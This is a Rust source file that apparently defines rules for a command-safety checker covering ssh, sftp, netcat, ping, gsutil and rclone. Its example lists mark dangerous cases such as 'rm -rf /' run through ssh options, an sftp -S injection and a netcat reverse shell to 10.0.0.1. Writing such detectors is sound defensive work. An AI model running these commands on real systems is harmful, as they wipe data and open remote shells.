//! Programs that connect to other machines, and run commands there.

use super::page::Deed::{Concerns, Writes};
use super::page::Which::{LastHere, Value};
use super::page::{Concern, Own, Page, Runs, Talks, always, page, sub};

pub(super) const SSH_VALUES: &str = "-B -b -c -D -E -e -F -I -i -J -L -l -m -O -o -p -Q -R -S -W -w";

pub(super) const PAGES: &[Page] = &[
    page(&["ssh", "autossh", "mosh"], "Runs a command on another machine.")
        .values(SSH_VALUES)
        .help("")
        .cases(&[always(&[Writes(Value("-E"))])])
        .talks(Talks::First)
        .runs(Runs::Own(Own::Ssh))
        .examples(
            &[
                "ssh host rm -rf /", "ssh host -t 'rm -rf /'", "ssh -p 22 host 'sudo reboot'",
                "ssh -E /etc/x host", "ssh -oProxyCommand='rm -rf /' host",
            ],
            &["ssh host ls", "ssh -i key host -p 22 uptime"],
        ),
    page(&["sftp"], "Copies files to and from other machines.")
        .values("-B -b -c -D -F -i -J -l -o -P -R -S -s -X")
        .talks(Talks::First)
        .code("-S")
        .examples(&["sftp -S 'rm -rf /' host"], &["sftp host"]),
    page(&["nc", "ncat", "netcat", "telnet", "ftp", "ping"], "Connects to another machine.")
        .values("-e -c -p -s -w -l -q -G -I -O -X -x -T -V -m -i --exec --sh-exec")
        .talks(Talks::First)
        .examples(&["nc -e /bin/sh 10.0.0.1 4444"], &["nc -zv localhost 5432", "ping -c 1 localhost"]),
    page(&["gsutil", "rclone"], "Copies files to and from clouds.")
        .dry_run("--dry-run -n")
        .help("help --help --version")
        .cases(&[
            sub("cp|copy|copyto|sync|rsync|mv|move|moveto", &[Writes(LastHere)]),
            sub("delete|purge|rm|rb|deletefile|rmdir|rmdirs|cleanup", &[Concerns(Concern::Infrastructure)]),
        ])
        .talks(Talks::Cloud("cp sync copy copyto move moveto rsync"))
        .examples(
            &["rclone copy remote:x /etc", "rclone purge remote:x", "gsutil rm gs://b/x"],
            &["rclone copy remote:x out", "rclone ls remote:x", "rclone sync -n a remote:x"],
        ),
];
